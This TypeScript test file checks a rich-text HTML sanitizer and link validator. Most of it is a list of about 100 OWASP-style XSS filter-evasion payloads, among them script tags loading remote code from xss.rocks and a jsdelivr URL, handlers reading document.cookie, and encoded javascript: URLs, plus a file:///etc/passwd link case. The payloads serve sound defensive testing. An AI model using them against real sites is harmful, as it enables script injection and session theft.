import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isEmptyRichText, plainTextExcerpt, safeLinkHref, sanitizeRichText } from './rich-text';

const ALLOWED = new Set(['h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'ul', 'ol', 'li', 'a', 'strong', 'em', 'b', 'i', 'u', 's', 'blockquote']);

/** OWASP XSS Filter Evasion Cheat Sheet vectors (plus mutation-XSS classics), each as a member might paste it into a rich-text field. */
const VECTORS: string[] = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">decimal</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">long decimal</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">hex</a>',
  `<a href="jav\tascript:alert('XSS');">tab</a>`,
  `<a href="jav&#x09;ascript:alert('XSS');">encoded tab</a>`,
  `<a href="jav&#x0A;ascript:alert('XSS');">encoded newline</a>`,
  `<a href="jav&#x0D;ascript:alert('XSS');">encoded return</a>`,
  `<a href=" &#14;  javascript:alert('XSS');">spaces and meta</a>`,
  `<a href="java\u0000script:alert('XSS')">null</a>`,
  '<a href="java&Tab;script:alert(1)">named tab</a>',
  '<a href="java&NewLine;script:alert(1)">named newline</a>',
  '<a href="javascript&colon;alert(1)">named colon</a>',
  '<a href="&#x6a;avascript&#x3a;alert(1)">mixed</a>',
  '<a href="JaVaScRiPt:alert(1)">case</a>',
  '<a href="  javascript:alert(1)">leading space</a>',
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">data</a>',
  `<a href="vbscript:msgbox('XSS')">vbscript</a>`,
  '<A HREF="//www.google.com/">protocol relative</A>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  `<IMG SRC="\`('XSS')"\``,
  '<iframe src=http://xss.rocks/scriptlet.html <',
  `\\";alert('XSS');//`,
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
  '<XSS STYLE="behavior: url(xss.htc);">',
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">div</DIV>`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>',
  '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT ="blah" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  `<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">go</button></form>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<script>alert(1)</script>-->',
  '<p>unclosed <b>bold <a href="javascript:alert(1)">link',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<a href="https://ok.example" onclick="alert(1)" style="color:red">styled</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>click</text></a></svg>',
  '<a href="mailto:x@y.example?body=<script>alert(1)</script>">mail</a>',
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  '<a href="http://example.com/"onmouseover="alert(1)">no space</a>',
  '<p onclick="alert(1)" style="x:expression(alert(1))" class="c" id="i">para</p>',
  '<textarea><script>alert(1)</script></textarea><select><option><script>alert(1)</script></option></select>',
  '<template><script>alert(1)</script></template><video><source onerror=alert(1)></video>',
];

/** Every start tag in the output, as [name, attribute text]. */
const tags = (html: string) => [...html.matchAll(/<([a-z0-9]+)([^>]*)>/gi)].map((match) => [match[1]?.toLowerCase() ?? '', match[2] ?? ''] as const);

function assertSafe(input: string, output: string) {
  const context = `${JSON.stringify(input)} → ${JSON.stringify(output)}`;
  assert.doesNotMatch(output, /<\s*script/i, context);
  assert.doesNotMatch(output, /<\s*(?:img|svg|iframe|object|embed|style|link|meta|base|form|input|body|frame|math|xmp|noscript|textarea)\b/i, context);
  for (const [name, attributes] of tags(output)) {
    assert.ok(ALLOWED.has(name), `tag <${name}> in ${context}`);
    assert.doesNotMatch(attributes, /\bon[a-z]+\s*=/i, context);
    assert.doesNotMatch(attributes, /\bstyle\s*=/i, context);
    assert.doesNotMatch(attributes, /(?:java|vb)script:|data:/i, context);
    if (name === 'a') {
      for (const [, href] of attributes.matchAll(/\bhref="([^"]*)"/g)) assert.match(href ?? '', /^(?:https?:\/\/[^/]|mailto:|tel:)/, context);
      assert.doesNotMatch(attributes.replace(/\b(?:href|target|rel)="[^"]*"/g, ''), /\S/, `only href, target and rel on links: ${context}`);
    } else {
      assert.equal(attributes.replace(/\/$/, '').trim(), '', `no attributes on <${name}>: ${context}`);
    }
  }
}

describe('sanitizeRichText: OWASP filter-evasion vectors', () => {
  it(`leaves no script, handler, style or javascript:/vbscript:/data: URL in any of ${VECTORS.length} vectors`, () => {
    assert.ok(VECTORS.length >= 40);
    for (const vector of VECTORS) {
      const output = sanitizeRichText(vector) ?? '';
      assertSafe(vector, output);
      // Sanitising what is stored changes nothing: stored text is already in its final form.
      assert.equal(sanitizeRichText(output), output, vector);
    }
  });

  it('stays safe inside allowed markup too (vectors wrapped in paragraphs, lists and links)', () => {
    for (const vector of VECTORS) {
      for (const wrapped of [`<p>before ${vector} after</p>`, `<ul><li>${vector}</li></ul>`, `<a href="https://ok.example">${vector}</a>`, `<h2>${vector}`]) {
        assertSafe(wrapped, sanitizeRichText(wrapped) ?? '');
      }
    }
  });

  it('keeps the text of links it removes, and drops code entirely', () => {
    assert.equal(sanitizeRichText('<p>See <a href="javascript:alert(1)">our <b>menu</b></a>.</p>'), '<p>See our <b>menu</b>.</p>');
    assert.equal(sanitizeRichText('<p>Hi<script>alert(1)</script><style>p{}</style><iframe src="https://x.example"></iframe></p>'), '<p>Hi</p>');
    assert.equal(sanitizeRichText('<scr<script>ipt>alert(1)</script>'), 'ipt&gt;alert(1)');
  });
});

describe('sanitizeRichText: what members may write', () => {
  it('keeps headings h2–h6, paragraphs, line breaks, lists, quotes and emphasis as written', () => {
    const html =
      '<h2>Visit</h2><h3>Hours</h3><h4>a</h4><h5>b</h5><h6>c</h6><p>Open <strong>daily</strong>, <em>rain</em> or <b>shine</b>, <i>really</i> <u>truly</u> <s>not</s>.<br />Closed on holidays.</p><ul><li>one</li></ul><ol><li>two</li></ol><blockquote>Best pie in the valley</blockquote>';
    assert.equal(sanitizeRichText(html), html);
  });

  it('turns h1 into h2, unwraps div and span, and drops every attribute but a link href', () => {
    assert.equal(
      sanitizeRichText(
        '<h1 class="big">Welcome</h1><div id="x" style="color:red"><p class="lead" data-x="1">Hi <span style="font-weight:bold">there</span></p></div>',
      ),
      '<h2>Welcome</h2><p>Hi there</p>',
    );
  });

  it('keeps http, https, mailto and tel links; target=_blank always brings rel=noopener noreferrer', () => {
    assert.equal(
      sanitizeRichText(
        '<p><a href="https://penns-cave.example/tours?x=1&y=2" title="t">Tours</a> <a href="http://a.example">a</a> <a href="mailto:info@cave.example">mail</a> <a href="tel:+1-814-555-0100">call</a></p>',
      ),
      '<p><a href="https://penns-cave.example/tours?x=1&amp;y=2">Tours</a> <a href="http://a.example/">a</a> <a href="mailto:info@cave.example">mail</a> <a href="tel:+1-814-555-0100">call</a></p>',
    );
    assert.equal(
      sanitizeRichText('<a href="https://x.example/" target="_BLANK" rel="opener">x</a>'),
      '<a href="https://x.example/" target="_blank" rel="noopener noreferrer">x</a>',
    );
    assert.equal(sanitizeRichText('<a href="https://x.example/" target="_top" rel="opener">x</a>'), '<a href="https://x.example/">x</a>');
    assert.equal(sanitizeRichText('<a href="/events">relative</a> <a href="#top">anchor</a> <a href="ftp://x.example">ftp</a>'), 'relative anchor ftp');
  });

  it('keeps entities and plain text as text', () => {
    assert.equal(sanitizeRichText('<p>Tom &amp; Jerry &lt;3 "quotes" café</p>'), '<p>Tom &amp; Jerry &lt;3 "quotes" café</p>');
    assert.equal(sanitizeRichText('1 < 2 and 3 > 2'), '1 &lt; 2 and 3 &gt; 2');
  });

  it('gives null for null, and "" for text without anything visible', () => {
    assert.equal(sanitizeRichText(null), null);
    assert.equal(sanitizeRichText(undefined), null);
    for (const empty of [
      '',
      '   ',
      '<p></p>',
      '<p><br></p>',
      '<p>&nbsp;</p>',
      '<p> </p><p>\u200b</p>',
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '<!-- just a comment -->',
    ]) {
      assert.equal(sanitizeRichText(empty), '', JSON.stringify(empty));
    }
  });
});

describe('isEmptyRichText', () => {
  it('is true only when no text would show', () => {
    for (const empty of [null, undefined, '', '<p><br></p>', '<p>&nbsp;</p>', '<ul><li> </li></ul>', '<style>p{}</style>'])
      assert.equal(isEmptyRichText(empty), true, String(empty));
    for (const full of ['x', '<p>x</p>', '<p><br>.</p>', '<a href="https://x.example">x</a>']) assert.equal(isEmptyRichText(full), false, full);
  });
});

describe('safeLinkHref', () => {
  it('answers the URL a browser would follow, or null', () => {
    assert.equal(safeLinkHref('https://x.example'), 'https://x.example/');
    assert.equal(safeLinkHref(' https://x.example/a b '), 'https://x.example/a%20b');
    assert.equal(safeLinkHref('ht\ttps://x.example'), 'https://x.example/');
    for (const bad of [
      undefined,
      '',
      'javascript:alert(1)',
      ' JAVASCRIPT:alert(1)',
      'java\nscript:alert(1)',
      'data:text/html,x',
      'vbscript:x',
      '//x.example',
      '/x',
      'https:',
      'file:///etc/passwd',
    ]) {
      assert.equal(safeLinkHref(bad), null, String(bad));
    }
  });
});

describe('plainTextExcerpt', () => {
  it('gives readable text: blocks spaced, entities decoded, code dropped, cut at a word with an ellipsis', () => {
    assert.equal(
      plainTextExcerpt('<h2>Hours</h2><p>Open&nbsp;daily &amp; late</p><ul><li>Pie</li><li>Coffee</li></ul><script>alert(1)</script>', 200),
      'Hours Open daily & late Pie Coffee',
    );
    const long = `<p>${'word '.repeat(100)}</p>`;
    const excerpt = plainTextExcerpt(long, 50);
    assert.ok(excerpt.length <= 50, excerpt);
    assert.match(excerpt, /^word( word)*…$/);
    assert.equal(plainTextExcerpt('<p>1 &lt; 2</p>', 10), '1 < 2');
    assert.equal(plainTextExcerpt(null, 10), '');
  });
});
